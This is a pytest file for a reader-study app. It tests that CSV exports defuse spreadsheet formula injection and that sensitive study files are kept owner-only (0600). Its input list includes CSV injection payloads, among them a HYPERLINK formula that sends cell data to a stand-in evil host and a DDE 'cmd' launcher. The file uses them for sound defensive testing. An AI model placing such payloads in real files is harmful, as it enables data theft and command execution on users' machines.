"""What leaves the study as files: CSV cells a spreadsheet would run are made inert (OWASP's CSV
injection advice) yet read back as typed by our own commands, and every file holding truth, answers
or sessions is readable by its owner alone (0600), including files written by older versions."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import sqlite3
import stat

import pytest

from study_app.cli import main as study_cli
from study_app.store.database import AnswerStore
from study_app.store.ratings_csv import read_design
from study_app.store.spreadsheet import neutralise, restore
from study_app.web.tables import to_csv

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What readers might type, and what an attacker would: formulas, DDE, and the tab / CR smuggling forms.
TYPED = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
         "\t=1+1", "\r=1+1", "'=already quoted", "''-double", "plain comment", "-0.5", "+3", "1e-3", ""]


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_neutralised_cells_start_with_no_trigger_and_restore_exactly():
    for text in TYPED:
        cell = neutralise(text)
        is_number = text in ("-0.5", "+3", "1e-3")
        assert is_number or not cell.startswith(TRIGGERS), text  # a spreadsheet shows it as text
        assert cell == text if is_number or not text.startswith(TRIGGERS + ("'",)) else cell == "'" + text
        assert restore(cell) == text
    rng = random.Random(3)
    alphabet = "=+-@'\t\r a1.e"
    for _ in range(5000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6)))
        assert restore(neutralise(text)) == text, repr(text)
    assert neutralise(7) == 7 and neutralise(None) is None  # numbers we write stay numbers


def test_exports_are_inert_in_a_spreadsheet_and_score_and_mrmc_read_them_as_typed(tmp_path, capsys):
    store = AnswerStore(tmp_path / "answers.sqlite")
    readers = ["=reader", "@reader", "plain"]
    for r, reader in enumerate(readers):
        for c in range(6):
            truth = "synthetic" if c % 2 else "real"
            store.record(reader, f"c{c}", "+ARM", truth, "real" if (c + r) % 3 else "synthetic", 1 + (c + r) % 5,
                         1.0, 2.0, f"img{c}", comment=TYPED[(c + r) % len(TYPED)])
    export = tmp_path / "export.csv"
    assert store.export_csv(export) == 18
    for text in (export.read_text(), store.csv_text()):  # the CLI's file and the organiser's download
        rows = list(csv.reader(io.StringIO(text)))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [cell for cell in cells if cell.startswith(TRIGGERS) and not _number(cell)], cells
        assert {row[0] for row in rows[1:]} == {"'=reader", "'@reader", "plain"}

    assert study_cli(["score", str(export), "--json"]) == 0
    scored = json.loads(capsys.readouterr().out)
    assert list(scored["arms"]) == ["+ARM"]
    assert {r["reader"] for r in scored["arms"]["+ARM"]["readers"]} == set(readers)
    design = read_design(export)
    assert set(design.readers) == set(readers) and list(design.arms) == ["+ARM"]

    table = to_csv([{"arm": "+ARM", "reader": "=reader", "p": -0.25}], ("arm", "reader", "p"))
    assert table.splitlines()[1] == "'+ARM,'=reader,-0.25"


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.fixture
def open_umask():
    """The usual umask (files 0644 unless made otherwise)."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def test_truth_answers_and_sessions_are_private_from_the_start(tmp_path, open_umask):
    from study_app.preparation.demo import build_demo
    from study_app.preparation.prepare import prepare
    from study_app.preparation.study import load_study
    from study_app.web.gate import current_gate

    study_file, _ = build_demo(tmp_path / "demo", crops=4)
    prepared = prepare(load_study(study_file), progress=False)
    gate = current_gate(prepared.workdir)
    gate.open_session("reader", "reader-1")  # sessions.sqlite and its WAL files
    case = gate.reader_cases("reader-1")[0]
    gate.answers.record("reader-1", case.id, case.arm, case.truth, "real", 3, 1.0, 2.0, case.image_id)
    private = ["cases.json", "parity.json", "study.key", "answers.sqlite", "answers.sqlite-wal", "answers.sqlite-shm",
               "sessions.sqlite", "sessions.sqlite-wal", "sessions.sqlite-shm"]
    for name in private:
        assert mode(prepared.workdir / name) == 0o600, name
    assert mode(prepared.workdir / "static") == 0o700
    out = tmp_path / "answers.csv"
    assert study_cli(["export", str(study_file), "-o", str(out)]) == 0
    assert mode(out) == 0o600 and "reader-1" in out.read_text()


def test_files_an_older_version_left_open_are_narrowed_when_the_study_is_opened(tmp_path, open_umask):
    from study_app.preparation.demo import build_demo
    from study_app.preparation.prepare import open_prepared, prepare
    from study_app.preparation.study import load_study
    from study_app.web.sessions import SessionStore

    study_file, _ = build_demo(tmp_path / "demo", crops=4)
    workdir = prepare(load_study(study_file), progress=False).workdir
    still_open = []  # connections that hold the -wal and -shm files, as a running older server would
    for name in ("answers.sqlite", "sessions.sqlite"):  # as an older version made them: plain sqlite3, 0644
        (workdir / name).unlink(missing_ok=True)
        db = sqlite3.connect(workdir / name, isolation_level=None)
        db.execute("PRAGMA journal_mode=WAL")
        db.execute("CREATE TABLE t (x)")
        db.execute("INSERT INTO t VALUES (1)")
        still_open.append(db)
        os.chmod(workdir / name, 0o644)
    for name in ("cases.json", "parity.json"):
        os.chmod(workdir / name, 0o644)
    widened = [p for p in workdir.iterdir() if p.is_file() and mode(p) == 0o644 and p.suffix != ".py"]
    assert {p.name for p in widened} >= {"cases.json", "parity.json", "answers.sqlite", "sessions.sqlite"}

    open_prepared(workdir)
    for path in widened:
        assert mode(path) == 0o600, path.name
    SessionStore(workdir / "sessions.sqlite")  # and opening a store narrows its own files too
    AnswerStore(workdir / "answers.sqlite")
    assert all(mode(p) == 0o600 for p in workdir.glob("*.sqlite*"))
    for db in still_open:
        db.close()


def test_an_export_that_cannot_be_written_names_the_users_path_and_leaves_no_temporary(tmp_path, capsys):
    from study_app.store.database import AnswerStore
    from urcdm.errors import UserError

    store = AnswerStore(tmp_path / "answers.sqlite")
    store.record("r1", "c1", "A", "real", "real", 3, 1.0, 2.0, "img1")
    folder = tmp_path / "victim"
    folder.mkdir()
    with pytest.raises(UserError, match=f"{folder}: cannot be written"):
        store.export_csv(folder)
    with pytest.raises(UserError, match="nowhere/answers.csv: cannot be written"):
        store.export_csv(tmp_path / "nowhere" / "answers.csv")
    assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")]  # it held the truth


@pytest.mark.parametrize("command", ["score", "mrmc"])
def test_an_empty_file_and_a_folder_are_named_as_such(tmp_path, capsys, command):
    empty = tmp_path / "answers.csv"
    empty.write_text("")
    assert study_cli([command, str(empty)]) == 2
    assert capsys.readouterr().err.startswith(f"error: {empty}: empty file")
    assert study_cli([command, str(tmp_path)]) == 2
    assert capsys.readouterr().err == f"error: {tmp_path}: is a folder, not a CSV file\n"
